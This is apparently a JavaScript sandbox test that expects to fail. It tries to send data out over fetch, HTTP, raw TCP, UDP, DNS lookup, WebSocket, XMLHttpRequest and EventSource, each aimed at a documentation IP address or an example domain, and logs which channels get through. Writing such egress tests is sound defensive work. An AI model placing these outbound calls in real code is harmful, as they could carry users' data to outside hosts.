// outcome: fails | Sends data out by HTTP, TCP, UDP and DNS.
// @ts-nocheck
export async function main() {
  const ways = {
    fetch: () => fetch('http://192.0.2.1/?data=x'),
    http: () => require('http').get('http://192.0.2.1/'),
    net: () => require('net').connect(80, '192.0.2.1'),
    udp: () => require('dgram').createSocket('udp4').send('x', 53, '192.0.2.1'),
    dns: () => require('dns').promises.lookup('data.example.org'),
    socket: () => new WebSocket('ws://192.0.2.1'),
    request: () => new XMLHttpRequest(),
    source: () => new EventSource('http://192.0.2.1'),
  };
  for (const [name, way] of Object.entries(ways)) {
    try {
      await way();
      console.log(name, 'sent');
    } catch (error) {
      console.log(name, error.name);
    }
  }
}
